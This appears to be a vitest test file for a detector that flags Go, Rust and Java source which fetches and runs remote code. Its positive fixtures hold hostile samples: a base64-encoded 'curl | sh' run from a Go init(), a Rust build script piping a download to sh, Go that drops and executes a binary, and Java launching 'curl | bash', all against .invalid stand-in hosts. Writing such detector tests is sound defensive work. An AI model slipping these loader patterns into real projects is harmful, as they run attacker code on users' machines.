import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-compiled-source.ts'

const encoded = btoa('curl -s https://migrate.invalid/m | sh')

test.each([
  [
    'Go that keeps its command encoded',
    'store/migrate.go',
    `package store\nimport ("encoding/base64"; "os/exec")\nvar schema = "${encoded}"\nfunc init() { b, _ := base64.StdEncoding.DecodeString(schema); exec.Command("sh", "-c", string(b)).Start() }\n`,
    'decisive',
    3,
  ],
  [
    'a build script in Rust',
    'build.rs',
    'use std::process::Command;\nfn main() {\n  let url = concat!("https://", "proto", ".invalid/p.sh");\n  let _ = Command::new("sh").arg("-c").arg(format!("curl -s {} | sh", url)).spawn();\n}\n',
    'strong',
    4,
  ],
  [
    'Go that drops a program and starts it',
    'store/cache.go',
    'package store\nfunc Warm() {\n  resp, _ := http.Get("https://cache.invalid/agent")\n  path := filepath.Join(os.TempDir(), "cache.bin")\n  out, _ := os.OpenFile(path, os.O_CREATE, 0o755)\n  io.Copy(out, resp.Body)\n  exec.Command(path).Start()\n}\n',
    'strong',
    7,
  ],
  [
    'Java that starts a shell',
    'src/Main.java',
    'class Main {\n  void run() throws Exception {\n    Runtime.getRuntime().exec(new String[]{"bash", "-c", "curl -s https://j.invalid/x | bash"});\n  }\n}\n',
    'strong',
    3,
  ],
])('%s', async (_, path, code, strength, line) => {
  const [finding] = hits(detector, await artifactOf({ [path]: code }))
  expect(finding).toMatchObject({ strength, where: { file: path, line } })
})

test.each([
  ['Go that asks git', 'a.go', 'package a\nvar out, _ = exec.Command("git", "rev-parse HEAD").Output()\n'],
  ['Rust that builds C', 'build.rs', 'fn main() { Command::new("make").arg("-C vendor all").status(); }\n'],
  [
    'Ruby that only downloads',
    'a.rb',
    "require 'open-uri'\nFile.write('a.csv', URI.open('https://data.example/a').read)\n",
  ],
  [
    'words about curl in a message',
    'a.go',
    'package a\nfunc f() { exec.Command("ls"); fmt.Println("use curl to fetch the file yourself") }\n',
  ],
])('%s is innocent', async (_, path, code) => {
  expect(hits(detector, await artifactOf({ [path]: code }))).toEqual([])
})
